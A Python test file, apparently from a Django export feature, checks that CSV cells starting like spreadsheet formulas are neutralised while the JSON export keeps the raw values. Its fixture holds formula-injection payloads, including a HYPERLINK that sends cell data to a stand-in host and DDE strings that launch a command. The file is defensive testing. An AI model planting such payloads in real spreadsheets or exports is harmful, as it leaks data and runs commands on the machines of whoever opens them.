"""CSV cells that a spreadsheet would run as a formula are neutralised; data.json keeps the true value (finding 8)."""

import csv
import io
import json
import zipfile
from decimal import Decimal

import pytest

from exports.builder.spreadsheet import safe_cell
from tests import factories

FORMULAS = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "last_name": "+cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company": "\tTabbed",
    "vat_number": "\rCarriage",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33612345678", "'+33612345678"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Zoé", "Zoé"),
        ("a=b", "a=b"),
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        (None, ""),
        (True, "true"),
    ],
)
def test_a_cell_is_neutralised_only_when_it_starts_like_a_formula(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.django_db
def test_the_export_csv_neutralises_formulas_and_the_json_keeps_the_true_values(build_export, fast_pdf):
    customer = factories.CustomerFactory(email="formula@example.com", **FORMULAS)

    job = build_export(customer=customer, requested_by=customer)

    with zipfile.ZipFile(job.path) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("csv/identity.csv").decode("utf-8-sig"), newline="")))
        data = json.loads(archive.read("data.json"))
    row = next(r for r in rows if r.get("first_name"))
    identity = next(r for r in data["sections"]["identity"] if r.get("first_name"))
    for name, value in FORMULAS.items():
        assert row[name] == "'" + value, name
        assert identity[name] == value, name
